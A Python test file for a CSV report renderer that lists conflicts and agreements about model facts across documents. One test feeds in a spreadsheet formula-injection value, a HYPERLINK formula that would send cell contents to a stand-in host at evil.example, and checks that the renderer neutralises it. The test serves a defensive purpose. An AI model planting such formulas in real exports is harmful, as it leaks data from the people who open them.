import csv
import io
from dataclasses import replace

from reconcile.finding import Kind, Suggestion, Verdict
from reports.findings_table import render_conflicts, render_findings
from tests.reports.audit_fixture import FINDINGS, TERN_2, audit, cluster, empty, finding

HEADER = "finding_id,entity,attribute,scope,verdict,kind,severity,status,values,suggestion,documents,reason,also,stated"


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def test_the_columns_are_those_of_the_contract() -> None:
    assert render_conflicts(empty()) == render_findings(empty()) == f"{HEADER}\n".encode()


def test_conflicts_hold_conflicts_and_possible_ones_and_nothing_else() -> None:
    found = rows(render_conflicts(audit()))
    assert [row["finding_id"][-1] for row in found] == ["1", "2", "3", "4", "5", "6", "7"]
    assert [row["verdict"] for row in found] == ["conflict"] * 6 + ["possible"]


def test_findings_hold_every_group() -> None:
    found = rows(render_findings(audit()))
    assert [row["finding_id"] for row in found] == [one.finding_id for one in FINDINGS]
    assert {row["verdict"] for row in found} == {verdict.value for verdict in Verdict}


def test_a_conflict_lists_values_and_places_by_version() -> None:
    row = rows(render_conflicts(audit()))[0]
    assert row == {
        "finding_id": "f000000000001",
        "entity": "Tern-2",
        "attribute": "parameters_total",
        "scope": "",
        "verdict": "conflict",
        "kind": "attribution",
        "severity": "high",
        "status": "new",
        "values": "236000000000|671000000000",
        "suggestion": "236000000000 (strong: 3 independent sources against 1)",
        "documents": "a.md:6;b.md:101;b.md:140;c/overview.html:12|e.md:42",
        "reason": "Three documents say 236 billion and one says 671 billion. 671 billion is Tern-3's agreed figure: "
        "this sentence probably names the wrong model.",
        "also": "",
        "stated": "236 billion;236B;236&nbsp;B|671B",
    }


def test_further_kinds_stand_behind_the_leading_one() -> None:
    row = rows(render_conflicts(audit()))[2]
    assert (row["kind"], row["also"]) == ("value", "within one document")


def test_a_place_that_makes_two_claims_is_listed_once() -> None:
    twin = replace(TERN_2[0], start=TERN_2[0].start + 40, end=TERN_2[0].end + 40)
    one = finding(1, "Tern-2", "parameters_total", Verdict.AGREEMENT, Kind.SAME, "", cluster("7", TERN_2[0], twin))
    made = replace(audit(), claims=(TERN_2[0], twin), findings=(one,))
    assert rows(render_findings(made))[0]["documents"] == "a.md:6"


def test_names_and_reasons_are_neutralised_and_stand_on_one_line() -> None:
    row = rows(render_conflicts(audit()))[5]
    assert row["entity"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Tern-9")'
    assert row["reason"] == "'=1+1 is how this reason starts, and it goes on."


def test_a_suggestion_gives_value_strength_and_basis() -> None:
    one = replace(FINDINGS[1], suggestion=Suggestion("2024-05-07", "the maker's own page", "moderate"))
    row = rows(render_conflicts(replace(audit(), findings=(one,))))[0]
    assert row["suggestion"] == "2024-05-07 (moderate: the maker's own page)"
